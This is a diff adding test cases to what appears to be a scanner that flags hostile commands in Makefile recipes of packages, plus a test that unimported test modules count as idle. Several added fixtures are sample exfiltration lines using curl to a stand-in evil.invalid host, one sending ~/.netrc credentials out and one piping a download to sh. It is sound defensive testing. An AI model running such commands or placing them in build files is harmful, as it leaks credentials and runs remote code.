@@ -77,6 +77,26 @@ test.each([
   ['Makefile', '"cd native && make -s", shell=True', RECIPE(FETCH), 'CRITICAL'],
   ['Makefile', '["make"], cwd="native"', RECIPE(FETCH), 'CRITICAL'],
   ['Makefile', '["make"], cwd="other"', RECIPE(FETCH), undefined],
+  [
+    'Makefile',
+    '["make", "-C", "native"]',
+    RECIPE('curl -o $(ARCHIVE) https://example.invalid/v$(V).tar'),
+    undefined,
+  ],
+  ['Makefile', '["make", "-C", "native"]', RECIPE('curl https://evil.invalid/$$(cat ~/.netrc)'), 'CRITICAL'],
+  ['Makefile', '["make", "-C", "native"]', RECIPE('curl https://evil.invalid/$(shell id)'), 'CRITICAL'],
+  [
+    'Makefile',
+    '["make", "-C", "native"]',
+    `D := $(shell id)\n${RECIPE('curl https://evil.invalid/$(D)')}`,
+    'CRITICAL',
+  ],
+  [
+    'Makefile',
+    '["make", "-C", "native"]',
+    `G = curl https://evil.invalid\n${RECIPE('$(G)/x | sh')}`,
+    'CRITICAL',
+  ],
   ['Makefile', '["make", "-C", "native"]', `# ${FETCH.replace('\\\n', '')}\nall:\n\ttrue\n`, undefined],
   [
     'package.json',
@@ -194,4 +214,16 @@ test('packages above the module of a back end are imported with it', () => {
   const { findings } = judgeSources(sourceTree(Object.fromEntries(inside) as Files, told), python);
   const places = findings.filter(({ rule }) => rule === 'hostile-command').map(({ file }) => file);
   expect(places).toEqual(['fixture-1.0/tools/own/__init__.py']);
+});
+
+test.each([
+  ['', ['fixture-1.0/tests/__init__.py', 'fixture-1.0/tests/helper.py']],
+  ['import tests.helper', []],
+])('tests are idle unless something imports them: %s', (line, idle) => {
+  const tree = sourceTree({
+    'fixture-1.0/setup.py': `from setuptools import setup\n${line}\nsetup(name="fixture")`,
+    'fixture-1.0/tests/__init__.py': '',
+    'fixture-1.0/tests/helper.py': 'A = 1',
+  });
+  expect([...judgeSources(tree, python).idle]).toEqual(idle);
 });
